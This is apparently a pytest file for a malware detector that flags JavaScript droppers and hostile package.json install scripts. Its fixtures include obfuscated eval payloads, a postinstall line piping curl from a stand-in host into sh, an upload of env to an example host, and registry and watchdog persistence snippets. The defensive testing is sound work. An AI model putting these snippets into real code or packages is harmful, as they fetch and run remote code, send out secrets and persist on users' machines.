"""JavaScript droppers and package.json install scripts."""

import base64
import json

import pytest

from hinomi.evidence.scripts import analyse
from hinomi.evidence.scripts.detect import dangerous_js


def rows(text, path="/srv/p/a.js"):
    return analyse(path, text.encode(), language="javascript").actions


def told(text):
    return [(a.action, a.object, a.detail) for a in rows(text)]


B64 = base64.b64encode(b"require('child_process').spawn('/tmp/o')").decode()
ONE = {
    "const cp = require('child_process'); cp.spawn('/tmp/o', ['-d', '1']);": ("starts", "/tmp/o", "-d 1"),
    "const {spawn: go} = require('node:child_process'); go('/tmp/o');": ("starts", "/tmp/o", None),
    "import { execFile } from 'child_process'; execFile('/tmp/o', () => {});": ("starts", "/tmp/o", None),
    "require('child_process').exec('/tmp/o -x');": ("starts", "/tmp/o", "-x"),
    "const p = '/tm' + 'p/o'; require('child_process').execSync(`${p} -x`);": ("starts", "/tmp/o", "-x"),
    "const run = require('util').promisify(require('child_process').exec); run('/tmp/o');": ("starts", "/tmp/o", None),
    "const fs = require('fs'); fs.writeFileSync('/tmp/o', data);": ("writes", "/tmp/o", "data"),
    "require('fs').promises.writeFile('/tmp/o', 'x');": ("writes", "/tmp/o", "x"),
    "const fs = require('fs'); fs.chmodSync('/tmp/o', 0o755);": ("changes-mode", "/tmp/o", "493"),
    "const fs = require('fs'); fs.unlinkSync(__filename);": ("deletes", "__filename", None),
    "const h = require('https'); h.get('https://h.example/o', r => r.pipe(q));": ("downloads", "https://h.example/o", None),
    "require('http').request({hostname: 'h.example', port: 81, path: '/o'});": ("downloads", "h.example:81/o", None),
    "fetch(['https:/', 'h.example', 'o'].join('/'))": ("downloads", "https://h.example/o", None),
    "const axios = require('axios'); axios.post('https://h.example/in', env)": ("uploads", "https://h.example/in", "env"),
    "const os = require('os'); os.networkInterfaces()": ("collects", "interfaces", "os.networkInterfaces"),
    "const net = require('net'); net.connect(443, '198.51.100.7')": ("connects", "198.51.100.7:443", "net"),
    "Buffer.from('eA==', 'base64')": ("decodes", "eA==", "base64"),
    f"eval(Buffer.from('{B64}', 'base64').toString())": ("starts", "/tmp/o", None),
    f"new Function(atob('{B64}'))()": ("starts", "/tmp/o", None),
    "eval(unescape('%66%65%74%63%68%28%22http://h.example/%22%29'))": ("downloads", "http://h.example/", None),
    "eval(String.fromCharCode(102,101,116,99,104,40,34,113,34,41))": ("downloads", "q", None),
    "eval(')\"q\"(hctef'.split('').reverse().join(''))": ("downloads", "q", None),
    "var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c o.exe', 0);": ("starts", "cmd /c o.exe", None),
    "x.open('GET', 'http://h.example/o', false); x.send();": ("downloads", "http://h.example/o", None),
    "s.RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\k', 'C:\\\\k.exe');": (
        "persists", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\k", "C:\\k.exe",
    ),
}  # fmt: skip


@pytest.mark.parametrize("text", ONE)
def test_single_actions(text):
    assert ONE[text] in told(text)


CODE = {
    "fetch('https://h.example/o').then(r => r.text()).then(t => eval(t))": "download",
    "require('https').get('https://h.example/o', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); })": "download",
    "const axios=require('axios'); axios.get('http://h.example').then(res => { new Function('require', res.data)(require) })": "download",
    "eval(atob(x))": "variable",
    "require('child_process').exec('curl http://h.example/a | sh')": "download",
}


@pytest.mark.parametrize("text", CODE)
def test_code_made_at_run_time(text):
    assert CODE[text] in [a.object for a in rows(text) if a.action == "executes-code"]


def test_an_interval_is_a_loop():
    action = rows(
        "setInterval(() => { fetch('http://h.example/c') }, 90 * 1000)\nsetInterval(function () { fetch('q') }, 5000)"
    )
    assert [(a.in_loop, a.loop_interval) for a in action] == [(True, None), (True, 5.0)]


def test_existence_guards():
    action = next(
        a
        for a in rows("const fs=require('fs');\nif (!fs.existsSync('/tmp/o')) { fs.copyFileSync('/a', '/tmp/o') }")
        if a.action == "copies"
    )
    assert (action.guard_kind, action.guard_object, action.detail) == ("missing", "/tmp/o", "/a")


def package(**scripts):
    return rows(json.dumps({"name": "x", "scripts": scripts}, indent=1), "/srv/p/package.json")


def test_install_scripts_are_walked_as_shell():
    found = package(test="/tmp/q", postinstall="node lib/setup.js && curl -s http://h.example/a | sh")
    assert [(a.action, a.object, a.function) for a in found] == [
        ("starts", "lib/setup.js", "postinstall"),
        ("downloads", "http://h.example/a", "postinstall"),
        ("executes-code", "download", "postinstall"),
    ]
    assert found[0].line == 5


@pytest.mark.parametrize("text", ["[]", "{", '{"scripts": []}', '{"scripts": {"install": 3}}', "[" * 100_000])
def test_odd_package_files(text):
    assert rows(text, "/p/package.json") == ()


def test_most_javascript_is_not_worth_parsing():
    assert not dangerous_js(b"export const a = 1; document.querySelector('a').exec('x')")
    assert not dangerous_js(b"const fs = require('fs'); fs.writeFileSync('a', 'b')")
    assert dangerous_js(b"require('child_process')")
    assert dangerous_js(b"https.get(u, r => r.pipe(fs.createWriteStream(p)))")


@pytest.mark.parametrize(
    "text",
    [
        f"eval(Buffer.from('{B64}','base64').toString())",
        f"const t = Buffer.from('{B64}', 'base64').toString();\nnew Function(t)()",
        f"eval(atob('{B64}'))",
    ],
)
def test_evaluating_decoded_text_is_worth_parsing_without_a_require(text):
    assert b"require(" not in text.encode()
    assert dangerous_js(text.encode())
    assert ("starts", "/tmp/o", None) in told(text)


def test_decoding_or_evaluating_alone_is_not_worth_parsing():
    assert not dangerous_js(b"const t = Buffer.from(x, 'base64').toString(); show(t)")
    assert not dangerous_js(b"eval('1 + 1'); document.write(location.hash)")


WATCHDOGS = [
    "try { cp.execSync('pgrep -f agentd'); } catch (e) { cp.spawn('/opt/agentd', { detached: true }); }",
    "if (!fs.readdirSync('/proc').some(p => fs.readFileSync(`/proc/${p}/comm`, 'utf8').includes('agentd'))) cp.spawn('/opt/agentd');",
    "const up = cp.execSync('ps ax').toString().includes('agentd'); if (!up) cp.spawn('/opt/agentd');",
    "if (cp.spawnSync('pidof', ['-x', 'agentd']).status) {} const n = cp.execSync('pgrep agentd || true'); if (!n) cp.spawn('/opt/agentd');",
]


@pytest.mark.parametrize("text", WATCHDOGS)
def test_what_is_asked_before_a_start(text):
    found = rows("const cp = require('child_process'), fs = require('fs');\n" + text)
    start = next(a for a in found if a.action == "starts" and a.object == "/opt/agentd")
    assert (start.guard_kind, start.guard_object) == ("not-running", "agentd")


def test_a_catch_of_something_else_asks_for_no_process():
    text = "const cp = require('child_process'); try { load('./x.json'); } catch (e) { cp.spawn('/opt/agentd'); }"
    start = next(a for a in rows(text) if a.action == "starts")
    assert start.guard_kind is None


def test_a_function_that_sets_a_timer_for_itself_is_a_loop():
    text = (
        "const cp = require('child_process'); function tick() { cp.spawn('/opt/a'); setTimeout(tick, 20000); } tick();"
    )
    start = next(a for a in rows(text) if a.action == "starts")
    assert (start.in_loop, start.loop_interval) == (True, 20.0)
    once = rows(
        "const cp = require('child_process'); function go() { cp.spawn('/opt/a'); setTimeout(other, 20000); } go();"
    )
    assert not next(a for a in once if a.action == "starts").in_loop
